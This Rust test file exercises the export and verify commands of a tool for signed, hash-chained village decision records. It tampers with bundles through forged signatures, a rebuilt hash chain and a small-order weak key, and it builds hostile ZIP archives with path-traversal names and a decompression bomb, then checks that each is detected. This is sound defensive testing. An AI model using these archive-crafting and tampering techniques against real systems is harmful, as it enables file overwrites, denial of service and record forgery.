//! `liuyi export` and `liuyi verify`: each test takes the demo's valid bundle, applies ONE
//! change, and asserts exit 4, the problem code and its place (research §3.1, §3.2, §3.4).

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

use liuyi::bundle::{BundleReader, BundleWriter, Caps, Method};
use liuyi::record::merkle::{leaf_hash, root};
use liuyi::record::note::{Checkpoint, sign_checkpoint};

use crate::harness::*;

/// The demo village, exported once: (dir, db, key, bundle).
pub struct Demo {
    pub dir: PathBuf,
}

impl Demo {
    pub fn db(&self) -> PathBuf {
        self.dir.join("qinghe.db")
    }
    pub fn key(&self) -> PathBuf {
        self.dir.join("qinghe.key")
    }
    pub fn bundle(&self) -> PathBuf {
        self.dir.join("bundle.zip")
    }
}

pub fn demo() -> &'static Demo {
    static DEMO: OnceLock<(tempfile::TempDir, Demo)> = OnceLock::new();
    &DEMO
        .get_or_init(|| {
            let t = tempfile::tempdir().unwrap();
            let dir = t.path().join("demo");
            let o = Command::new(bin())
                .args(["demo", "--out", dir.to_str().unwrap()])
                .env("LIUYI_LANG", "en")
                .output()
                .unwrap();
            assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
            let d = Demo { dir };
            let o = liuyi(&d, &["export", "--all", "-o", d.bundle().to_str().unwrap()]);
            assert_eq!(o.code, 0, "{}", o.stderr);
            (t, d)
        })
        .1
}

pub fn liuyi(d: &Demo, args: &[&str]) -> Out {
    let o = Command::new(bin())
        .args(args)
        .env("LIUYI_DB", d.db())
        .env("LIUYI_KEY", d.key())
        .env("LIUYI_LANG", "en")
        .env("LIUYI_NOW", "2026-10-30T10:00:00+08:00")
        .env_remove("LIUYI_TOWNSHIP_DB")
        .output()
        .unwrap();
    Out::from(o)
}

/// The bundle's files, in order.
pub fn parts(path: &Path) -> Vec<(String, Vec<u8>)> {
    let r = BundleReader::open(path, Caps::default()).unwrap();
    r.entries()
        .iter()
        .map(|e| {
            let mut data = Vec::new();
            std::io::Read::read_to_end(&mut r.open_entry(&e.name).unwrap(), &mut data).unwrap();
            (e.name.clone(), data)
        })
        .collect()
}

pub fn write_parts(parts: &[(String, Vec<u8>)], path: &Path) {
    let mut w = BundleWriter::create(path).unwrap();
    for (n, d) in parts {
        w.add_bytes(n, Method::Stored, d).unwrap();
    }
    w.finish().unwrap();
}

pub fn get<'a>(parts: &'a mut [(String, Vec<u8>)], name: &str) -> &'a mut Vec<u8> {
    &mut parts.iter_mut().find(|(n, _)| n == name).unwrap().1
}

pub fn lines(parts: &mut [(String, Vec<u8>)]) -> Vec<Vec<u8>> {
    get(parts, "log/entries.jsonl")
        .split(|b| *b == b'\n')
        .filter(|l| !l.is_empty())
        .map(|l| l.to_vec())
        .collect()
}

pub fn set_lines(parts: &mut [(String, Vec<u8>)], lines: &[Vec<u8>]) {
    let mut out = Vec::new();
    for l in lines {
        out.extend_from_slice(l);
        out.push(b'\n');
    }
    *get(parts, "log/entries.jsonl") = out;
}

/// Re-encodes entries from `from` on with their index and `prev` fixed up (an insider
/// rebuilding the chain after an edit).
pub fn rechain(lines: &mut [Vec<u8>], from: usize) {
    for i in from..lines.len() {
        let mut v: serde_json::Value = serde_json::from_slice(&lines[i]).unwrap();
        v["idx"] = (i as u64).into();
        if i > 0 {
            v["prev"] = hex::encode(leaf_hash(&lines[i - 1])).into();
        }
        lines[i] = liuyi::record::canonical::to_canonical(&v).unwrap();
    }
}

/// An insider holding `key`: the last implementation note rewritten, the chain after it and
/// every checkpoint rebuilt and re-signed.
pub fn rewrite_last_note(parts: &mut Vec<(String, Vec<u8>)>, key: &Path) {
    let mut ls = lines(parts);
    let i = ls
        .iter()
        .rposition(|l| String::from_utf8_lossy(l).contains("\"type\":\"implement\""))
        .unwrap();
    let s = String::from_utf8(ls[i].clone())
        .unwrap()
        .replace("\"note\":\"", "\"note\":\"（改）");
    ls[i] = s.into_bytes();
    rechain(&mut ls, i + 1);
    set_lines(parts, &ls);
    resign(parts, key, ORIGIN);
}

/// Re-signs every checkpoint up to the log's length with `key` and drops the rest.
pub fn resign(parts: &mut Vec<(String, Vec<u8>)>, key: &Path, origin: &str) {
    let (k, _) = liuyi::record::keys::read_key_file(key).unwrap();
    let leaves: Vec<[u8; 32]> = lines(parts).iter().map(|l| leaf_hash(l)).collect();
    let n = leaves.len() as u64;
    parts.retain(|(name, _)| {
        !(name.starts_with("checkpoints/") || name.starts_with("cosigned/"))
            || name
                .trim_start_matches("checkpoints/")
                .trim_start_matches("cosigned/")
                .trim_end_matches(".txt")
                .parse::<u64>()
                .unwrap()
                <= n
    });
    let mut has_last = false;
    for (name, data) in parts.iter_mut() {
        if let Some(s) = name
            .strip_prefix("checkpoints/")
            .and_then(|s| s.strip_suffix(".txt"))
        {
            let size: u64 = s.parse().unwrap();
            has_last |= size == n;
            let cp = Checkpoint {
                origin: origin.into(),
                size,
                root: root(&leaves[..size as usize]),
            };
            *data = sign_checkpoint(&k, origin, &cp).unwrap().into_bytes();
        }
    }
    if !has_last {
        let cp = Checkpoint {
            origin: origin.into(),
            size: n,
            root: root(&leaves),
        };
        parts.push((
            format!("checkpoints/{n}.txt"),
            sign_checkpoint(&k, origin, &cp).unwrap().into_bytes(),
        ));
    }
}

/// Cuts the log to its first `n` entries, as the village's bundle looked then: later
/// checkpoints and files only later entries refer to are dropped.
pub fn truncate_to(parts: &mut Vec<(String, Vec<u8>)>, n: usize) {
    let mut ls = lines(parts);
    ls.truncate(n);
    set_lines(parts, &ls);
    let text: String = ls.iter().map(|l| String::from_utf8_lossy(l)).collect();
    parts.retain(|(name, _)| {
        let file = name.strip_prefix("attachments/").or_else(|| {
            name.strip_prefix("notices/")
                .and_then(|s| s.strip_suffix(".pdf"))
        });
        let cp = name
            .strip_prefix("checkpoints/")
            .or_else(|| name.strip_prefix("cosigned/"))
            .and_then(|s| s.strip_suffix(".txt"))
            .map(|s| s.parse::<usize>().unwrap());
        file.is_none_or(|sha| text.contains(sha)) && cp.is_none_or(|size| size <= n)
    });
}

pub const ORIGIN: &str = "liuyi/130102001001";

/// Runs `verify --json` on `path` with extra args.
pub fn verify(path: &Path, extra: &[&str]) -> (i32, serde_json::Value) {
    let mut args = vec!["verify", path.to_str().unwrap(), "--json"];
    args.extend_from_slice(extra);
    let o = liuyi(demo(), &args);
    (o.code, o.json())
}

/// Asserts exit 4 and a problem with `code` whose location contains `place`.
#[track_caller]
pub fn assert_problem(path: &Path, code: &str, place: &str) -> serde_json::Value {
    let (exit, j) = verify(path, &[]);
    assert_eq!(exit, 4, "{j:#}");
    assert_eq!(j["ok"], false);
    let found = j["problems"]
        .as_array()
        .unwrap()
        .iter()
        .any(|p| p["code"] == code && p["location"].as_str().unwrap().contains(place));
    assert!(found, "expected {code} at {place}, got {j:#}");
    // A message says what is wrong; its code and place are fields of their own.
    for p in j["problems"].as_array().unwrap() {
        let m = p["message"].as_str().unwrap();
        assert!(!m.is_empty() && !m.starts_with('['), "{p:#}");
    }
    j
}

/// A copy of the demo bundle's parts and a fresh output path in `dir`.
fn mutate(f: impl FnOnce(&mut Vec<(String, Vec<u8>)>)) -> (tempfile::TempDir, PathBuf) {
    let mut p = parts(&demo().bundle());
    f(&mut p);
    let t = tempfile::tempdir().unwrap();
    let out = t.path().join("b.zip");
    write_parts(&p, &out);
    (t, out)
}

#[test]
fn the_demo_bundle_verifies_with_and_without_trust() {
    let d = demo();
    let o = liuyi(
        d,
        &[
            "verify",
            d.bundle().to_str().unwrap(),
            "--trust",
            d.key().to_str().unwrap(),
        ],
    );
    assert_eq!(o.code, 0, "{}{}", o.stdout, o.stderr);
    assert!(o.stdout.contains("VERIFIED"), "{}", o.stdout);
    let (code, j) = verify(&d.bundle(), &[]);
    assert_eq!(code, 0, "{j:#}");
    assert_eq!(j["ok"], true);
    assert!(j["entries"].as_u64().unwrap() > 700);
    // Re-exporting never overwrites.
    let o = liuyi(d, &["export", "--all", "-o", d.bundle().to_str().unwrap()]);
    assert_eq!(o.code, 2);
}

#[test]
fn another_villages_key_is_not_trusted() {
    let t = tempfile::tempdir().unwrap();
    let other = t.path().join("other.key");
    let k = liuyi::record::keys::SecretKey::generate().unwrap();
    liuyi::record::keys::write_new_key_file(&other, &k, "x").unwrap();
    let (code, j) = verify(&demo().bundle(), &["--trust", other.to_str().unwrap()]);
    assert_eq!(code, 4);
    assert_eq!(j["problems"][0]["code"], "E-TRUST", "{j:#}");
    // A weak (small-order) key is refused as weak (SPEC §2), not as "not a key".
    let weak = format!("01{}", "0".repeat(62));
    let d = demo();
    let o = liuyi(
        d,
        &["verify", d.bundle().to_str().unwrap(), "--trust", &weak],
    );
    assert_eq!(o.code, 2, "{}", o.stderr);
    assert!(
        o.stderr.contains("is a weak key") && o.stderr.contains("liuyi key show"),
        "{}",
        o.stderr
    );
    // 64 hex digits that are no usable key (the identity written non-canonically): said
    // as such, not "give 64 hex digits".
    let odd = format!("ee{}7f", "f".repeat(60));
    let o = liuyi(
        d,
        &["verify", d.bundle().to_str().unwrap(), "--trust", &odd],
    );
    assert_eq!(o.code, 2, "{}", o.stderr);
    assert!(
        o.stderr
            .contains("is 64 hex digits but no usable public key")
            && o.stderr.contains("a fingerprint"),
        "{}",
        o.stderr
    );
    // A bundle given as the key: no key, said as such (it got the roster file's size
    // limit and Excel advice).
    let o = liuyi(
        d,
        &[
            "verify",
            d.bundle().to_str().unwrap(),
            "--trust",
            d.bundle().to_str().unwrap(),
        ],
    );
    assert_eq!(o.code, 2, "{}", o.stderr);
    assert!(
        o.stderr.contains("cannot read the key") && !o.stderr.contains("XLSX"),
        "{}",
        o.stderr
    );
}

#[test]
fn a_scoped_export_verifies_and_says_its_scope() {
    let d = demo();
    let t = tempfile::tempdir().unwrap();
    let out = t.path().join("p.zip");
    liuyi(
        d,
        &[
            "export",
            "--proposal",
            "2026-001",
            "-o",
            out.to_str().unwrap(),
        ],
    )
    .ok();
    let (code, j) = verify(&out, &[]);
    assert_eq!(code, 0, "{j:#}");
    assert_eq!(j["scope"], "scope proposal 2026-001");
    let o = liuyi(d, &["verify", out.to_str().unwrap()]);
    assert!(
        o.stdout.contains("VERIFIED (matter 2026-001 only): "),
        "{}",
        o.stdout
    );
    let o = liuyi(
        d,
        &[
            "export",
            "--year",
            "2019",
            "-o",
            t.path().join("y.zip").to_str().unwrap(),
        ],
    );
    assert_eq!(o.code, 2);
    assert!(
        o.stderr
            .contains("no entry recorded for the year 2019; nothing exported"),
        "{}",
        o.stderr
    );
    assert!(!t.path().join("y.zip").exists());
}

/// A FORMAT this program does not know is shown line by line, each quoted (it printed
/// Rust's escapes, `liuyi-bundle/v2\u{a}scope all\u{a}`).
#[test]
fn an_unknown_format_is_shown_line_by_line() {
    let (_t, out) = mutate(|p| {
        *get(p, "FORMAT") = b"liuyi-bundle/v2\nscope all\n".to_vec();
    });
    let j = assert_problem(&out, "E-BUNDLE-FORMAT", "FORMAT");
    let m = j["problems"][0]["message"].as_str().unwrap();
    assert!(
        m.contains(r#"FORMAT says: "liuyi-bundle/v2", "scope all")"#) && !m.contains("\\u{"),
        "{m}"
    );
}

/// The FORMAT scope is not signed: relabelling a bundle must not excuse files from being
/// shipped. A scope that selects nothing, or a log that goes on past what the scope
/// selects, is a problem (both used to verify, with the files "out of scope").
#[test]
fn a_scope_that_does_not_fit_the_log_is_a_problem() {
    fn withheld(scope: &'static str) -> impl FnOnce(&mut Vec<(String, Vec<u8>)>) {
        move |p| {
            *get(p, "FORMAT") = format!("liuyi-bundle/v1\n{scope}\n").into_bytes();
            p.retain(|(n, _)| !n.starts_with("attachments/") && !n.starts_with("notices/"));
        }
    }
    let (_t, out) = mutate(withheld("scope proposal 2026-999"));
    let j = assert_problem(&out, "E-SCOPE", "FORMAT");
    assert!(
        j["problems"][0]["message"]
            .as_str()
            .unwrap()
            .contains("selects nothing"),
        "{j:#}"
    );
    // A second matter recorded after the first: an export of everything relabelled as
    // the first matter's.
    let d = demo();
    let t = tempfile::tempdir().unwrap();
    let db = t.path().join("v.db");
    std::fs::copy(d.db(), &db).unwrap();
    let run = |args: &[&str]| {
        let o = Command::new(bin())
            .args(args)
            .env("LIUYI_DB", &db)
            .env("LIUYI_KEY", d.key())
            .env("LIUYI_NOW", "2026-10-30T10:00:00+08:00")
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    };
    let proposer = liuyi::demo::village(liuyi::demo::VillageSpec::default())
        .into_iter()
        .find(|p| p.relation == "户主" && p.status == "在村")
        .map(|p| format!("{}:{}", p.household, p.name))
        .unwrap();
    run(&[
        "motion",
        "--title",
        "修建村文化广场",
        "--text",
        "建议修建",
        "--by",
        &proposer,
    ]);
    let all = t.path().join("all.zip");
    run(&["export", "--all", "-o", all.to_str().unwrap()]);
    let mut p = parts(&all);
    withheld("scope proposal 2026-001")(&mut p);
    let out = t.path().join("relabelled.zip");
    write_parts(&p, &out);
    let j = assert_problem(&out, "E-SCOPE", "matter 2026-002");
    assert!(
        j["problems"][0]["message"]
            .as_str()
            .unwrap()
            .contains("goes on after it with matter 2026-002"),
        "{j:#}"
    );
    // The genuine export of that matter verifies.
    let one = t.path().join("one.zip");
    run(&[
        "export",
        "--proposal",
        "2026-002",
        "-o",
        one.to_str().unwrap(),
    ]);
    let (code, j) = verify(&one, &[]);
    assert_eq!(code, 0, "{j:#}");
}

#[test]
fn a_flipped_byte_in_an_attachment() {
    let (_t, out) = mutate(|p| {
        let (_, data) = p
            .iter_mut()
            .find(|(n, _)| n.starts_with("attachments/"))
            .unwrap();
        data[0] ^= 1;
    });
    // Its place: the file, and the log line, matter and step that name it (SPEC §6).
    let j = assert_problem(&out, "E-ATT-HASH", "attachments/");
    let p = j["problems"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["code"] == "E-ATT-HASH")
        .unwrap();
    let at = p["location"].as_str().unwrap();
    assert!(
        at.contains("(log/entries.jsonl:") && at.contains(", matter 20"),
        "{at}"
    );
}

/// A problem's place is worded in the user's language in the human report: in Chinese
/// the log line, entry, matter and step read as Chinese, in English as the JSON gives them;
/// the JSON `location` is the same machine form whatever the language (township tools read
/// it).
#[test]
fn problem_places_are_worded_in_the_users_language() {
    let (_t, out) = mutate(|p| {
        let (_, data) = p
            .iter_mut()
            .find(|(n, _)| n.starts_with("attachments/"))
            .unwrap();
        data[0] ^= 1;
    });
    let path = out.to_str().unwrap();
    let zh = liuyi(demo(), &["verify", path, "--lang", "zh"]);
    assert_eq!(zh.code, 4, "{}{}", zh.stdout, zh.stderr);
    let line = zh
        .stdout
        .lines()
        .find(|l| l.contains("[E-ATT-HASH]"))
        .unwrap_or_else(|| panic!("{}", zh.stdout));
    // attachments/<sha>（log/entries.jsonl 第 N 行（第 N-1 条记录，事项 2026-…，…））
    assert!(line.starts_with("attachments/"), "{line}");
    assert!(line.contains("（log/entries.jsonl 第 "), "{line}");
    assert!(line.contains(" 条记录，事项 20"), "{line}");
    for english in ["(entry ", ", matter ", ":1", "consult.", "motion", "review"] {
        let place = line.split(" [E-").next().unwrap();
        assert!(!place.contains(english), "{english:?} in {line}");
    }
    // The line number and the entry index agree (entry = line - 1).
    let place = line.split(" [E-").next().unwrap();
    let n: u64 = place
        .split("第 ")
        .nth(1)
        .and_then(|s| s.split(' ').next())
        .unwrap()
        .parse()
        .unwrap();
    assert!(
        place.contains(&format!("（第 {} 条记录，", n - 1)),
        "{place}"
    );

    let en = liuyi(demo(), &["verify", path, "--lang", "en"]);
    assert_eq!(en.code, 4);
    let line = en
        .stdout
        .lines()
        .find(|l| l.contains("[E-ATT-HASH]"))
        .unwrap_or_else(|| panic!("{}", en.stdout));
    assert!(
        line.contains(&format!(
            "(log/entries.jsonl:{n} (entry {}, matter 20",
            n - 1
        )),
        "{line}"
    );

    // JSON: the machine form, in Chinese as in English, and a message without it.
    for lang in ["zh", "en"] {
        let o = liuyi(demo(), &["verify", path, "--json", "--lang", lang]);
        let j = o.json();
        let p = j["problems"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["code"] == "E-ATT-HASH")
            .unwrap();
        let at = p["location"].as_str().unwrap();
        assert!(
            at.contains(&format!(
                "(log/entries.jsonl:{n} (entry {}, matter 20",
                n - 1
            )),
            "{lang}: {at}"
        );
        let m = p["message"].as_str().unwrap();
        assert!(!m.contains("entries.jsonl") && !m.starts_with('['), "{m}");
    }
}

#[test]
fn a_deleted_attachment_and_an_unreferenced_file() {
    let (_t, out) = mutate(|p| {
        let i = p
            .iter()
            .position(|(n, _)| n.starts_with("attachments/"))
            .unwrap();
        p.remove(i);
        p.push((
            format!("attachments/{}", "ab".repeat(32)),
            b"smuggled".to_vec(),
        ));
    });
    assert_problem(&out, "E-ATT-MISSING", "attachments/");
    assert_problem(
        &out,
        "E-BUNDLE-EXTRA",
        &format!("attachments/{}", "ab".repeat(32)),
    );
}

/// Changes one field of entry `line` (1-based) in place, keeping valid JSON.
fn edit_field(line: usize, field: &str) -> (tempfile::TempDir, PathBuf) {
    mutate(|p| {
        let mut ls = lines(p);
        let mut v: serde_json::Value = serde_json::from_slice(&ls[line - 1]).unwrap();
        match field {
            "idx" => v["idx"] = (line as u64 + 5).into(),
            "prev" => {
                let s = v["prev"].as_str().unwrap().replace('0', "1");
                let s = if s == v["prev"].as_str().unwrap() {
                    format!("f{}", &s[1..])
                } else {
                    s
                };
                v["prev"] = s.into();
            }
            "origin" => v["origin"] = "liuyi/130102001002".into(),
            "time" => v["time"] = "2026-03-01T00:00:00Z".into(),
            "type" => v["type"] = "withdraw".into(),
            "v" => v["v"] = 2.into(),
            "body" => {
                let b = v["body"].as_object_mut().unwrap();
                let k = b.keys().find(|k| b[*k].is_string()).unwrap().clone();
                let s = format!("{}改", b[&k].as_str().unwrap());
                b.insert(k, s.into());
            }
            _ => unreachable!(),
        }
        ls[line - 1] = liuyi::record::canonical::to_canonical(&v).unwrap();
        set_lines(p, &ls);
    })
}

#[test]
fn a_changed_field_in_an_entry_is_placed() {
    // Line 5 is a mid-log entry; each edit is found at that line or at the next link, and
    // the checkpoints covering it no longer match.
    for (field, code, line) in [
        ("idx", "E-LOG-ORDER", 5),
        ("prev", "E-LOG-CHAIN", 5),
        ("origin", "E-LOG-ORIGIN", 5),
        ("type", "E-LOG-ENTRY", 5),
        ("v", "E-LOG-ENTRY", 5),
        ("time", "E-LOG-CHAIN", 6),
        ("body", "E-LOG-CHAIN", 6),
    ] {
        let (_t, out) = edit_field(5, field);
        let j = assert_problem(&out, code, &format!("entries.jsonl:{line} "));
        assert!(
            j["problems"]
                .as_array()
                .unwrap()
                .iter()
                .any(|p| p["code"] == "E-CKPT-ROOT"),
            "{field}: {j:#}"
        );
    }
}

#[test]
fn a_flipped_byte_in_a_checkpoint() {
    let (_t, out) = mutate(|p| {
        let (_, data) = p
            .iter_mut()
            .find(|(n, _)| n == "checkpoints/5.txt")
            .unwrap();
        // A character of the signature (last line, before the newline).
        let n = data.len();
        data[n - 10] = if data[n - 10] == b'A' { b'B' } else { b'A' };
    });
    assert_problem(&out, "E-CKPT-SIG", "checkpoints/5.txt");
    let (_t, out) = mutate(|p| {
        let (_, data) = p
            .iter_mut()
            .find(|(n, _)| n == "checkpoints/5.txt")
            .unwrap();
        let root_at = data.iter().position(|b| *b == b'\n').unwrap() + 3;
        data[root_at + 2] = if data[root_at + 2] == b'A' {
            b'B'
        } else {
            b'A'
        };
    });
    assert_problem(&out, "E-CKPT-ROOT", "checkpoints/5.txt");
}

#[test]
fn a_forged_checkpoint_signature() {
    let (_t, out) = mutate(|p| {
        let (_, data) = p
            .iter_mut()
            .find(|(n, _)| n == "checkpoints/5.txt")
            .unwrap();
        let text = String::from_utf8(data.clone()).unwrap();
        let (body, sig) = text.rsplit_once(' ').unwrap();
        let mut blob =
            base64::Engine::decode(&base64::engine::general_purpose::STANDARD, sig.trim()).unwrap();
        for (i, b) in blob[4..].iter_mut().enumerate() {
            *b = (i as u8).wrapping_mul(37);
        }
        *data = format!(
            "{body} {}\n",
            base64::Engine::encode(&base64::engine::general_purpose::STANDARD, blob)
        )
        .into_bytes();
    });
    assert_problem(&out, "E-CKPT-SIG", "checkpoints/5.txt");
}

#[test]
fn two_swapped_entries() {
    let (_t, out) = mutate(|p| {
        let mut ls = lines(p);
        ls.swap(9, 10);
        set_lines(p, &ls);
    });
    assert_problem(&out, "E-LOG-ORDER", "entries.jsonl:10 ");
}

#[test]
fn the_last_entry_deleted() {
    let (_t, out) = mutate(|p| {
        let mut ls = lines(p);
        ls.pop();
        set_lines(p, &ls);
    });
    let n = lines(&mut parts(&demo().bundle())).len();
    assert_problem(&out, "E-CKPT-SIZE", &format!("checkpoints/{n}.txt"));
}

#[test]
fn a_middle_entry_deleted_and_the_rest_renumbered() {
    let (_t, out) = mutate(|p| {
        let mut ls = lines(p);
        ls.remove(20);
        rechain(&mut ls, 21);
        set_lines(p, &ls);
    });
    assert_problem(&out, "E-LOG-CHAIN", "entries.jsonl:21 ");
    assert_problem(&out, "E-CKPT-ROOT", "checkpoints/");
}

#[test]
fn an_unsigned_entry_appended() {
    let n = lines(&mut parts(&demo().bundle())).len();
    let (_t, out) = mutate(|p| {
        let mut ls = lines(p);
        let last = ls.last().unwrap().clone();
        ls.push(last);
        rechain(&mut ls, n);
        set_lines(p, &ls);
    });
    assert_problem(&out, "E-CKPT-SIZE", &format!("entries.jsonl:{} ", n + 1));
}

#[test]
fn an_entry_moved_from_another_village() {
    let (_t, out) = edit_field(12, "origin");
    assert_problem(&out, "E-LOG-ORIGIN", "entries.jsonl:12 ");
}

#[test]
fn a_non_canonical_re_encoding() {
    let (_t, out) = mutate(|p| {
        let mut ls = lines(p);
        // Same JSON value, different bytes: a space after the first colon.
        let s = String::from_utf8(ls[7].clone())
            .unwrap()
            .replacen("\":", "\": ", 1);
        ls[7] = s.into_bytes();
        set_lines(p, &ls);
    });
    assert_problem(&out, "E-LOG-NONCANON", "entries.jsonl:8 ");
}

#[test]
fn crlf_line_ends_and_a_missing_final_newline() {
    let (_t, out) = mutate(|p| {
        let log = get(p, "log/entries.jsonl");
        let s = String::from_utf8(log.clone())
            .unwrap()
            .replace('\n', "\r\n");
        *log = s.into_bytes();
    });
    let j = assert_problem(&out, "E-LOG-FRAMING", "entries.jsonl:1 ");
    assert!(j.to_string().contains("edited by hand"), "{j:#}");
    let (_t, out) = mutate(|p| {
        get(p, "log/entries.jsonl").pop();
    });
    assert_problem(&out, "E-LOG-FRAMING", "entries.jsonl:");
}

#[test]
fn a_weak_genesis_key() {
    let (_t, out) = mutate(|p| {
        let mut ls = lines(p);
        let mut v: serde_json::Value = serde_json::from_slice(&ls[0]).unwrap();
        // The identity point: small order, every signature "verifies" without strictness.
        v["body"]["key"] = format!("01{}", "00".repeat(31)).into();
        ls[0] = liuyi::record::canonical::to_canonical(&v).unwrap();
        rechain(&mut ls, 1);
        set_lines(p, &ls);
    });
    assert_problem(&out, "E-KEY-WEAK", "entries.jsonl:1 ");
}

#[test]
fn a_weak_trusted_key_is_bad_input() {
    let (code, _) = {
        let o = liuyi(
            demo(),
            &[
                "verify",
                demo().bundle().to_str().unwrap(),
                "--trust",
                &format!("01{}", "00".repeat(31)),
            ],
        );
        (o.code, ())
    };
    assert_eq!(code, 2);
}

// ---- the container, end to end ------------------------------------------------------------

/// A stored-only ZIP with arbitrary (even hostile) names.
pub fn raw_zip(entries: &[(&[u8], &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut cd = Vec::new();
    for (name, data) in entries {
        let crc = crc32fast::hash(data);
        let off = out.len() as u32;
        let mut h = Vec::new();
        h.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
        h.extend_from_slice(&20u16.to_le_bytes());
        h.extend_from_slice(&0u16.to_le_bytes());
        h.extend_from_slice(&0u16.to_le_bytes());
        h.extend_from_slice(&0u16.to_le_bytes());
        h.extend_from_slice(&33u16.to_le_bytes());
        h.extend_from_slice(&crc.to_le_bytes());
        h.extend_from_slice(&(data.len() as u32).to_le_bytes());
        h.extend_from_slice(&(data.len() as u32).to_le_bytes());
        h.extend_from_slice(&(name.len() as u16).to_le_bytes());
        h.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(&h);
        out.extend_from_slice(name);
        out.extend_from_slice(data);
        let mut c = Vec::new();
        c.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
        c.extend_from_slice(&((3u16 << 8) | 20).to_le_bytes());
        c.extend_from_slice(&h[4..30]);
        c.extend_from_slice(&0u16.to_le_bytes());
        c.extend_from_slice(&0u16.to_le_bytes());
        c.extend_from_slice(&0u16.to_le_bytes());
        c.extend_from_slice(&(0o100644u32 << 16).to_le_bytes());
        c.extend_from_slice(&off.to_le_bytes());
        c.extend_from_slice(name);
        cd.extend_from_slice(&c);
    }
    let cd_start = out.len() as u32;
    out.extend_from_slice(&cd);
    out.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    out.extend_from_slice(&[0, 0, 0, 0]);
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(cd.len() as u32).to_le_bytes());
    out.extend_from_slice(&cd_start.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

#[test]
fn zip_slip_names_are_refused_and_nothing_is_written() {
    let t = tempfile::tempdir().unwrap();
    let work = t.path().join("work");
    std::fs::create_dir(&work).unwrap();
    let zip = t.path().join("slip.zip");
    let names: [&[u8]; 4] = [b"../x", b"..\\x", b"/x", b"C:\\x"];
    let mut entries: Vec<(&[u8], &[u8])> = vec![(b"FORMAT", b"liuyi-bundle/v1\nscope all\n")];
    for n in names {
        entries.push((n, b"evil"));
    }
    std::fs::write(&zip, raw_zip(&entries)).unwrap();
    let o = Command::new(bin())
        .args(["verify", zip.to_str().unwrap(), "--json"])
        .current_dir(&work)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(4));
    let j: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let paths = j["problems"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| p["code"] == "E-ZIP-PATH")
        .count();
    assert_eq!(paths, 4, "{j:#}");
    assert_eq!(std::fs::read_dir(&work).unwrap().count(), 0);
    let mut left: Vec<_> = std::fs::read_dir(t.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    left.sort();
    assert_eq!(left, vec!["slip.zip", "work"]);
}

#[test]
fn duplicate_names_are_refused() {
    let t = tempfile::tempdir().unwrap();
    let zip = t.path().join("dup.zip");
    std::fs::write(
        &zip,
        raw_zip(&[
            (b"FORMAT", b"liuyi-bundle/v1\nscope all\n"),
            (b"README.txt", b"a"),
            (b"readme.TXT", b"b"),
            (b"README.txt", b"c"),
        ]),
    )
    .unwrap();
    let (code, j) = verify(&zip, &[]);
    assert_eq!(code, 4);
    assert!(
        j["problems"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["code"] == "E-ZIP-DUPLICATE"),
        "{j:#}"
    );
}

/// The demo bundle with entry `which` replaced by 8 MiB of deflated zeros that still
/// declares the entry's true size and CRC: (its dir, the bundle, the entry's name).
fn bombed(which: impl Fn(&str) -> bool) -> (tempfile::TempDir, PathBuf, String) {
    let mut p = parts(&demo().bundle());
    let (name, data) = p.iter().find(|(n, _)| which(n)).cloned().unwrap();
    // Deflate 8 MiB of zeros but declare the attachment's true size and CRC.
    let mut enc = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut enc, &vec![0u8; 8 << 20]).unwrap();
    let bomb = enc.finish().unwrap();
    p.retain(|(n, _)| *n != name);
    let t = tempfile::tempdir().unwrap();
    let out = t.path().join("bomb.zip");
    // Write the honest parts, then splice in the bomb as a raw deflate entry.
    let mut entries: Vec<(Vec<u8>, Vec<u8>)> =
        p.into_iter().map(|(n, d)| (n.into_bytes(), d)).collect();
    entries.push((name.clone().into_bytes(), bomb.clone()));
    let refs: Vec<(&[u8], &[u8])> = entries
        .iter()
        .map(|(n, d)| (n.as_slice(), d.as_slice()))
        .collect();
    let mut zip = raw_zip(&refs);
    // Patch the last entry to method 8 with the real size/CRC in both headers.
    let crc = crc32fast::hash(&data);
    let patch = |zip: &mut Vec<u8>, at: usize| {
        zip[at + 8..at + 10].copy_from_slice(&8u16.to_le_bytes());
        zip[at + 14..at + 18].copy_from_slice(&crc.to_le_bytes());
        zip[at + 22..at + 26].copy_from_slice(&(data.len() as u32).to_le_bytes());
    };
    let lfh = zip.len()
        - {
            let cd_len =
                u32::from_le_bytes(zip[zip.len() - 10..zip.len() - 6].try_into().unwrap()) as usize;
            22 + cd_len
        }
        - bomb.len()
        - name.len()
        - 30;
    patch(&mut zip, lfh);
    let cdh = zip.len() - 22 - (46 + name.len());
    zip[cdh + 10..cdh + 12].copy_from_slice(&8u16.to_le_bytes());
    zip[cdh + 16..cdh + 20].copy_from_slice(&crc.to_le_bytes());
    zip[cdh + 24..cdh + 28].copy_from_slice(&(data.len() as u32).to_le_bytes());
    std::fs::write(&out, zip).unwrap();
    (t, out, name)
}

#[test]
fn an_attachment_that_inflates_past_its_size_stops_at_the_cap() {
    let (_t, out, name) = bombed(|n| n.starts_with("attachments/"));
    let started = std::time::Instant::now();
    assert_problem(&out, "E-ZIP-BOMB", &name);
    assert!(started.elapsed().as_secs() < 10);
}

#[test]
fn a_log_that_inflates_past_its_size_is_the_one_problem() {
    let (_t, out, _) = bombed(|n| n == "log/entries.jsonl");
    let (code, j) = verify(&out, &[]);
    assert_eq!(code, 4);
    // Nothing else can be judged without the log: each checkpoint was called another
    // village's (27 false E-CKPT-ORIGIN) and each file unreferenced; now they are noted.
    let codes: Vec<&str> = j["problems"]
        .as_array()
